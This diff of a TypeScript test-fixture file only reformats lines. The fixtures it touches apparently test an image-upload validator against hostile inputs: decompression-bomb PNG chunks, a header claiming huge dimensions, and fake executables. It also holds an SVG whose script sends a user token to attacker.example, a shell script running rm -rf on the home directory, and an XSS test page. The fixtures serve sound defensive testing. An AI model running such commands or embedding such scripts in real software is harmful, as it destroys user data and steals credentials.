@@ -38,7 +38,10 @@ export function aPng({ width, height, colourType = 0, bytes, extraChunks = [] }:
 
 export function aCompressedChunk(type: 'zTXt' | 'iCCP' | 'iTXt', bytes: number): Buffer {
   const headers = { zTXt: 'Comment\0\0', iCCP: 'icc\0\0', iTXt: 'XML:com.adobe.xmp\0\u0001\0\0\0' };
-  return chunk(type, Buffer.concat([Buffer.from(headers[type]), deflateSync(Buffer.alloc(bytes, 65), { level: 9 })]));
+  return chunk(
+    type,
+    Buffer.concat([Buffer.from(headers[type]), deflateSync(Buffer.alloc(bytes, 65), { level: 9 })]),
+  );
 }
 
 /** 38 bytes that claim 16383 × 16383 pixels. */
@@ -61,8 +64,14 @@ export const SVG_WITH_SCRIPT = `<?xml version="1.0"?><svg xmlns="http://www.w3.o
 <script>fetch('https://attacker.example/' + localStorage.userToken)</script><rect width="900" height="1350"/></svg>`;
 
 export const NON_PICTURES: Record<string, Buffer> = {
-  'a Windows program': Buffer.concat([Buffer.from('4d5a90000300000004000000ffff0000', 'hex'), Buffer.alloc(4000)]),
-  'a Linux program': Buffer.concat([Buffer.from('7f454c46020101000000000000000000', 'hex'), Buffer.alloc(4000)]),
+  'a Windows program': Buffer.concat([
+    Buffer.from('4d5a90000300000004000000ffff0000', 'hex'),
+    Buffer.alloc(4000),
+  ]),
+  'a Linux program': Buffer.concat([
+    Buffer.from('7f454c46020101000000000000000000', 'hex'),
+    Buffer.alloc(4000),
+  ]),
   'a shell script': Buffer.from('#!/bin/sh\nrm -rf "$HOME"\n'),
   'an SVG with a script': Buffer.from(SVG_WITH_SCRIPT),
   'a web page': Buffer.from('<!doctype html><script>alert(1)</script>'),
